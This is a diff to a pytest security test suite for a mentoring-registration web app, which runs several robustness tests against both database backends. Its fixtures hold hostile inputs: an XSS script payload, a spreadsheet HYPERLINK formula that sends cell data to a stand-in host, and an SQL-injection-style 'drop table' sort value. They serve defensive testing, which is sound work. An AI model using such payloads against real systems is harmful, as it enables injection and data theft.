@@ -30,7 +30,7 @@ from register.matching import services as matching
 from register.mentors.models import MentorProfile
 from register.mentorships import services
 from register.mentorships.models import Evaluation, PersonalLink
-from tests.conftest import Browser
+from tests.conftest import BACKENDS, Browser
 from tests.test_introductions import draft, make_mentor, send_request  # noqa: F401
 from tests.test_mentorships import (  # noqa: F401
     MENTEE,
@@ -44,6 +44,7 @@ from tests.test_mentorships import (  # noqa: F401
     person,
 )
 
+BOTH_BACKENDS = pytest.mark.parametrize("backend", BACKENDS, indirect=True)
 XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 HUGE = "99999999999999999999999"
@@ -189,6 +190,7 @@ def test_every_post_needs_its_csrf_token(app, world):
     f"/requests/{HUGE}", f"/mentors/{HUGE}", f"/admin/profiles/{HUGE}",
     f"/mentorships/1/agreement/{HUGE}/agree",
 ])
+@BOTH_BACKENDS
 def test_huge_ids_are_not_found(app, world, path):
     admin = as_person(app, "admin@example.org")
     assert admin.get(path).status_code in (404, 405)
@@ -381,6 +383,7 @@ def test_nobody_sees_the_other_persons_evaluation(app, world):
         assert figures.answers == 1 and figures.usefulness is None
 
 
+@BOTH_BACKENDS
 def test_tokens_with_nul_bytes_or_junk_are_plain_refusals(app, world):
     anonymous = Browser(app.test_client())
     for path in ("/mentorships/check-in/met/%00", "/mentorships/evaluation/%00abc",
@@ -526,6 +529,7 @@ JUNK = [{"page": HUGE}, {"page": "-1"}, {"start": "9999-99-99", "end": "0000-00-
         {"per_page": HUGE, "sort": "id; drop table user"}]
 
 
+@BOTH_BACKENDS
 def test_junk_query_strings_never_break_a_page(app, world):
     admin = as_person(app, "admin@example.org")
     mentee = as_person(app, MENTEE)
